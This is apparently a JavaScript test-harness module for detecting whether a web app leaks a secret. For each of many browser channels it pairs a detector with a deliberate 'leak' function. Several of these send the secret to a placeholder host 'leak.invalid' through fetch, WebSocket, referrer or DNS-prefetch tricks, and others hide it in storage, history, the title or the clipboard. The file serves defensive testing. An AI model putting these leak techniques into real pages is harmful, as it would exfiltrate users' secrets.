// Every place by which a secret could get out of the page or stay behind: how to look there, and how a leak gets there,
// so that looking is seen to find it.

import { files, recorded } from './watched.mjs';

const basic = (secret) => Buffer.from(`id:${secret}`).toString('base64');
const inPage = (run) => ({ page }, secret) => page.evaluate(run, secret);
const evaluated = (run) => ({ page }) => page.evaluate(run);

const heard = (part) => ({ proxy }) => proxy.heard.map((one) => one[part]);
const onDisk = (which) => ({ disk }) => disk.filter(([path]) => which(path)).map(([, bytes]) => bytes);
const isCache = (path) => /(^|\/)(Cache|Code Cache)\//.test(path);
const isStorage = (path) => /Storage|IndexedDB|File System|Cookies/.test(path);

const originOf = ({ site }) => new URL(site.address).origin;

/** What the page itself sees of its storage, and what the browser says of it. */
async function domStorage(world, isLocalStorage) {
  const { entries } = await world.cdp.send('DOMStorage.getDOMStorageItems', {
    storageId: { securityOrigin: originOf(world), isLocalStorage },
  });
  const own = await world.page.evaluate((local) => JSON.stringify({ ...(local ? localStorage : sessionStorage) }), isLocalStorage);
  return [entries.flat(), own].flat();
}

async function databases({ page }) {
  return page.evaluate(async () => {
    const wait = (request) => new Promise((done, fail) => Object.assign(request, { onsuccess: () => done(request.result), onerror: fail }));
    const held = [];
    for (const { name } of await indexedDB.databases()) {
      const database = await wait(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        held.push(name, store, JSON.stringify(await wait(database.transaction(store).objectStore(store).getAll())));
      }
      database.close();
    }
    return held;
  });
}

async function caches({ page }) {
  return page.evaluate(async () => {
    const held = [];
    for (const name of await globalThis.caches.keys()) {
      const cache = await globalThis.caches.open(name);
      held.push(name, ...(await cache.keys()).map(({ url }) => url));
      for (const response of await cache.matchAll()) held.push(await response.text());
    }
    return held;
  });
}

/** The private file system of the origin: names and contents. */
async function privateFiles({ page }) {
  return page.evaluate(async () => {
    const held = [];
    const root = await navigator.storage.getDirectory();
    for await (const [name, handle] of root.entries()) {
      held.push(name);
      if (handle.kind === 'file') held.push(await (await handle.getFile()).text());
    }
    return held;
  });
}

async function history({ cdp, page, seen }) {
  const { entries } = await cdp.send('Page.getNavigationHistory');
  const state = await page.evaluate(() => JSON.stringify(history.state));
  return [state, ...seen.named, ...entries.flatMap(({ url, userTypedURL, title }) => [url, userTypedURL, title])];
}

/**
 * In the order in which they are looked at. `look` gives texts or bytes; `leak` puts a secret there. `after` marks those
 * that are looked at when the browser is closed, `through` those that one kind of session alone can see.
 */
export const PLACES = [
  { name: 'addresses of requests, at the proxy', through: 'proxy', look: heard('url'),
    leak: inPage((secret) => fetch(`elsewhere?${encodeURIComponent(secret)}`, { mode: 'no-cors' })) },
  { name: 'headers of requests, at the proxy', through: 'proxy', look: heard('headers'),
    leak: ({ page }, secret) => page.evaluate((held) => fetch('elsewhere', { headers: { authorization: `Basic ${held}` } }), basic(secret)) },
  { name: 'bodies of requests, at the proxy', through: 'proxy', look: heard('body'),
    leak: inPage((body) => fetch('http://leak.invalid/elsewhere', { method: 'POST', body: new URLSearchParams({ body }), mode: 'no-cors' })) },
  { name: 'requests that the browser tells of', look: ({ seen }) => seen.requests,
    leak: inPage((secret) => fetch(`?${new URLSearchParams({ secret })}`).then(() => undefined)) },
  { name: "requests at the site's own server", look: ({ site }) => site.requests,
    leak: inPage((secret) => fetch(`?${encodeURIComponent(secret)}`).then(() => undefined)) },
  { name: 'frames of WebSockets', through: 'proxy', look: ({ seen }) => seen.frames,
    leak: inPage((secret) => new Promise((done, fail) => {
      const socket = Object.assign(new WebSocket('ws://leak.invalid/'), { onerror: fail, onclose: done });
      socket.onopen = () => { socket.send(secret); done(); };
    })) },
  { name: 'referrers that followed links name', through: 'proxy', look: ({ proxy, arrived }) => [...proxy.referrers, arrived],
    leak: inPage((secret) => fetch('http://leak.invalid/elsewhere', {
      mode: 'no-cors', referrerPolicy: 'unsafe-url', referrer: `${location.origin}/?${encodeURIComponent(secret)}`,
    }).then(() => undefined)) },
  { name: 'cookies', look: async ({ cdp, page }) => [
    JSON.stringify(await cdp.send('Storage.getCookies')), await page.evaluate(() => document.cookie)],
  leak: inPage((secret) => { document.cookie = `held=${encodeURIComponent(secret)}; max-age=600`; }) },
  { name: 'local storage', look: (world) => domStorage(world, true), leak: inPage((secret) => localStorage.setItem('held', secret)) },
  { name: 'session storage', look: (world) => domStorage(world, false), leak: inPage((secret) => sessionStorage.setItem('held', btoa(`id:${secret}`))) },
  { name: 'IndexedDB', look: databases, leak: inPage((secret) => new Promise((done, fail) => {
    const request = indexedDB.open('held');
    request.onupgradeneeded = () => request.result.createObjectStore('held', { autoIncrement: true });
    request.onerror = fail;
    request.onsuccess = () => {
      const change = request.result.transaction('held', 'readwrite');
      change.objectStore('held').add({ secret });
      change.oncomplete = () => { request.result.close(); done(); };
    };
  })) },
  { name: 'Cache Storage', look: caches, leak: inPage(async (secret) => {
    await (await caches.open('held')).put('held', new Response(secret));
  }) },
  { name: 'service workers', look: evaluated(async () =>
    (await navigator.serviceWorker.getRegistrations()).flatMap(({ scope, active, installing, waiting }) =>
      [scope, ...[active, installing, waiting].map((one) => one?.scriptURL ?? '')])),
  leak: inPage(async (secret) => {
    await navigator.serviceWorker.register(`elsewhere.js?${encodeURIComponent(secret)}`, { scope: 'elsewhere/' });
  }), through: 'proxy' },
  { name: "the origin's private files", look: privateFiles, leak: inPage(async (secret) => {
    const handle = await (await navigator.storage.getDirectory()).getFileHandle('held', { create: true });
    const writable = await handle.createWritable();
    await writable.write(secret);
    await writable.close();
  }) },
  { name: 'an address that stood for a moment', look: ({ seen }) => seen.named, leak: async ({ page }, secret) => {
    await page.evaluate((held) => history.replaceState(null, '', `#/${encodeURIComponent(held)}`), secret);
    await page.evaluate(() => history.replaceState(null, '', '#/'));
  } },
  { name: 'address, title and state of the history', look: history,
    leak: inPage((secret) => history.pushState({ secret }, '', '#/lookup')) },
  { name: 'the title', look: async ({ page, seen }) => [await page.title(), ...seen.named], leak: inPage((secret) => { document.title = secret; }) },
  { name: 'the console', look: ({ seen }) => seen.console, leak: inPage((secret) => console.debug({ secret }, secret)) },
  { name: 'messages of errors', look: ({ seen }) => seen.errors,
    leak: inPage((secret) => new Promise((done) => { setTimeout(() => { setTimeout(done); throw new Error(secret); }); })) },
  { name: 'the name of the window', look: evaluated(() => window.name), leak: inPage((secret) => { window.name = secret; }) },
  { name: 'the clipboard, without a button that copies', look: async ({ page, uncopied }) =>
    [...uncopied, await page.evaluate(() => navigator.clipboard.readText())],
  leak: inPage((secret) => navigator.clipboard.writeText(secret)) },
  { name: 'downloads', look: ({ seen }) => seen.downloads, leak: async ({ page }, secret) => {
    const [download] = await Promise.all([page.waitForEvent('download'), page.evaluate((held) =>
      Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: encodeURIComponent(held) }).click(), secret)]);
    await download.cancel();
  } },
  { name: 'names that are looked up', through: 'direct', after: true, look: ({ network }) => network.names,
    leak: inPage((secret) => {
      const host = `${secret.toLowerCase().replace(/[^a-z0-9]/g, '')}.leak.invalid`;
      document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `http://${host}/` }));
    }) },
  { name: 'all that the browser sent or asked the network for', after: true, look: ({ network }) => network.text,
    leak: ({ page }, secret) => page.evaluate((held) => fetch('elsewhere', { headers: { 'x-held': held } }).then(() => undefined), basic(secret)) },
  { name: 'the cache on the disk', after: true, look: onDisk(isCache),
    leak: inPage((secret) => fetch(`site.json?${encodeURIComponent(secret)}`).then((answer) => answer.text())) },
  { name: 'the storage on the disk', after: true, look: onDisk(isStorage), leak: inPage((secret) => localStorage.setItem('disk', secret)) },
  { name: "the rest of the profile's folder", after: true, look: onDisk((path) => !isCache(path) && !isStorage(path)),
    leak: inPage((secret) => new Promise((done) => {
      addEventListener('popstate', done, { once: true });
      history.pushState(null, '', `#/lookup?${encodeURIComponent(secret)}`);
      history.back();
    }).then(() => undefined)) },
];

/** The places that a browser has which goes through a proxy, or doesn't. */
export const placesOf = (world) => PLACES.filter(({ through }) => !through || through === (world.proxy ? 'proxy' : 'direct'));

/** Looks everywhere, closes the browser, and looks at what is left: what each place holds, by its name. */
export async function lookEverywhere(world) {
  const held = new Map();
  const places = placesOf(world);
  for (const { name, look } of places.filter(({ after }) => !after)) held.set(name, [await look(world)].flat().filter(Boolean));
  await world.close();
  Object.assign(world, { network: recorded(world.netLog), disk: files(world.profile) });
  for (const { name, look } of places.filter(({ after }) => after)) held.set(name, [await look(world)].flat());
  return held;
}

